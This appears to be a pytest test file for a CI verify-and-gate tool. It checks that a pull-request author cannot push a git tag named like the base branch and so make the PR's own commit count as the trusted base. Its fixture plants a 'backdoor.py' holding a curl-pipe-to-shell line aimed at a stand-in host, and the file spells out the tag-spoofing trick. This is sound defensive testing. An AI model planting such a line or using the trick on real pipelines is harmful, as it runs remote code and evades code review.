"""Attacks on how `verify` and `gate` name the base a change is judged against (a CI clone).

In a CI clone the base branch exists only as ``refs/remotes/origin/<base>`` and every tag of the
remote is fetched (``actions/checkout`` with ``fetch-depth: 0``). git resolves a short name through
``refs/tags/`` before ``refs/heads/`` and ``refs/remotes/``, so a pull request author who can push
a tag named ``origin/main`` (or ``main``) decides what ``--base origin/main`` means: pointed at the
pull request's own first commit, that commit's config, checks and prompts become the "base's", and
its changes are never shown to the verifier nor flagged as protected paths.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.build_helpers import notes, verifier_session, write_plan, write_script
from tests.gate_helpers import add_verdict, commit_file
from tests.helpers import git

KEY = "ci-signing-key-0123456789-0123456789abcdef0123456789"


def _ci_clone(repo: Path, tmp_path: Path) -> tuple[Path, str, str]:
    """The origin's main judges by a check that fails; the PR's first commit drops that check and
    plants code; its second commit is the harmless-looking change. Returns the CI clone (main only as
    origin/main, detached at the PR's head), the PR's first and last commits."""
    (repo / "agentflow.yaml").write_text('checks: ["test -f BASE-CHECK-MARKER"]\nsandbox: {mode: off}\n')
    write_plan(repo)
    git(repo, "checkout", "-q", "-b", "pr")
    (repo / "agentflow.yaml").write_text("checks: []\nsandbox: {mode: off}\n")
    (repo / "backdoor.py").write_text("import os\nos.system('curl evil | sh')\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "tidy config")
    planted = git(repo, "rev-parse", "HEAD")
    head = commit_file(repo, "src/app.py", "def farewell():\n    return 'bye'\n", "farewell", {"Agentflow-Plan": "1"})
    git(repo, "checkout", "-q", "main")
    ci = tmp_path / "ci"
    git(tmp_path, "clone", "-q", str(repo), str(ci))
    git(ci, "config", "user.email", "ci@example.com")
    git(ci, "config", "user.name", "CI")
    git(ci, "checkout", "-q", "--detach", head)
    git(ci, "branch", "-q", "-D", "main")  # actions/checkout leaves no local main
    return ci, planted, head


@pytest.mark.parametrize("tag", ["origin/main", "main"])
def test_a_tag_named_like_the_base_does_not_become_the_base_of_verify(
    repo: Path, cli, tmp_path: Path, monkeypatch, tag: str
) -> None:
    ci, planted, head = _ci_clone(repo, tmp_path)
    git(ci, "tag", tag, planted)  # pushed by the PR's author, fetched with every tag
    monkeypatch.chdir(ci)
    script = write_script(ci, {"verifier": [verifier_session()]})

    result = cli("verify", "--base", "origin/main", "--script", str(script), "--format", "json")

    data = json.loads(result.stdout) if result.stdout.startswith("{") else None
    assert data is not None, result.output
    # judged against the branch, not the tag: the base's failing check ran, the config edit is flagged
    assert [c["command"] for c in data["checks"]] == ["test -f BASE-CHECK-MARKER"], data["checks"]
    assert "protected_path:agentflow.yaml" in {f["id"] for f in data["findings"]}
    assert result.exit_code == 1 and data["outcome"] != "approved"
    assert all(n["outcome"] != "approved" for n in notes(ci, head))


@pytest.mark.parametrize("tag", ["origin/main", "main"])
def test_a_tag_named_like_the_base_does_not_become_the_base_of_the_gate(
    repo: Path, cli, tmp_path: Path, monkeypatch, tag: str
) -> None:
    """A verdict bound to the PR's own first commit (what verify wrote when the tag was the base)
    must not open the gate for --base origin/main, nor the gate's config come from that commit."""
    ci, planted, head = _ci_clone(repo, tmp_path)
    git(ci, "tag", tag, planted)
    monkeypatch.chdir(ci)
    add_verdict(ci, head, key=KEY, base=planted)  # bound to base_tree = tree(planted)

    result = cli("gate", "HEAD", "--base", "origin/main", env={"AGENTFLOW_SIGNING_KEY": KEY})

    assert result.exit_code == 1, result.output
    assert "stale" in result.output


def test_the_gate_without_base_ignores_a_tag_named_like_the_configured_base(
    repo: Path, cli, tmp_path: Path, monkeypatch
) -> None:
    """No --base, no local main: the configured base is found as origin/main, not as a tag `main`."""
    ci, planted, head = _ci_clone(repo, tmp_path)
    git(ci, "tag", "main", planted)
    monkeypatch.chdir(ci)
    add_verdict(ci, head, key=KEY, base=planted)

    result = cli("gate", "HEAD", env={"AGENTFLOW_SIGNING_KEY": KEY})

    assert result.exit_code == 1, result.output


def test_the_gate_still_opens_for_an_approval_bound_to_origin_main(
    repo: Path, cli, tmp_path: Path, monkeypatch
) -> None:
    """The control: the same clone, no tag, a verdict bound to origin/main's tree: open."""
    ci, planted, head = _ci_clone(repo, tmp_path)
    monkeypatch.chdir(ci)
    passed = [{"command": "test -f BASE-CHECK-MARKER", "exit_code": 0, "passed": True}]  # origin/main's check
    add_verdict(ci, head, key=KEY, base=git(ci, "rev-parse", "origin/main"), checks=passed)

    result = cli("gate", "HEAD", "--base", "origin/main", env={"AGENTFLOW_SIGNING_KEY": KEY})

    assert result.exit_code == 0, result.output


def test_an_explicit_base_that_names_nothing_is_exit_2_not_a_gate_without_a_base(
    repo: Path, cli, tmp_path: Path, monkeypatch
) -> None:
    """CI passes --base origin/main; in a clone that lacks it (not fetched, a typo) the gate judged
    with no base at all: bound to the first parent and by the checkout's config, which is the pull
    request's (here it drops the base's gate.require_sandbox: an unsandboxed approval opened it)."""
    (repo / "agentflow.yaml").write_text("gate: {require_sandbox: true}\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "sandboxed approvals only")
    git(repo, "checkout", "-q", "-b", "pr")
    commit_file(repo, "agentflow.yaml", "gate: {require_sandbox: false}\n", "relax the gate")
    ci = tmp_path / "ci"
    git(tmp_path, "clone", "-q", "--branch", "pr", str(repo), str(ci))
    git(ci, "update-ref", "-d", "refs/remotes/origin/main")
    monkeypatch.chdir(ci)
    add_verdict(ci, "HEAD", key=KEY, sandbox="off", base=git(ci, "rev-parse", "HEAD~1"))

    result = cli("gate", "HEAD", "--base", "origin/main", env={"AGENTFLOW_SIGNING_KEY": KEY})

    assert result.exit_code == 2, result.output
    assert "origin/main" in result.output and "names no commit" in result.output


@pytest.mark.parametrize("command", ["verify", "gate"])
def test_a_tag_named_like_a_missing_base_branch_is_not_taken_for_it(
    repo: Path, cli, tmp_path: Path, monkeypatch, command: str
) -> None:
    """A clone without the branch origin/main (not fetched) but with the PR author's tag of that name."""
    ci, planted, head = _ci_clone(repo, tmp_path)
    git(ci, "update-ref", "-d", "refs/remotes/origin/main")
    git(ci, "tag", "origin/main", planted)
    monkeypatch.chdir(ci)
    add_verdict(ci, head, key=KEY, base=planted)  # what a verify against the tag wrote
    before = notes(ci, head)
    script = write_script(ci, {"verifier": [verifier_session()]})
    args = ["--script", str(script)] if command == "verify" else []

    result = cli(command, *(["HEAD"] if command == "gate" else []), "--base", "origin/main", *args,
                 env={"AGENTFLOW_SIGNING_KEY": KEY})  # fmt: skip

    assert result.exit_code == 2, result.output
    assert "tag" in result.output and "origin/main" in result.output
    assert notes(ci, head) == before  # nothing verified against the tag
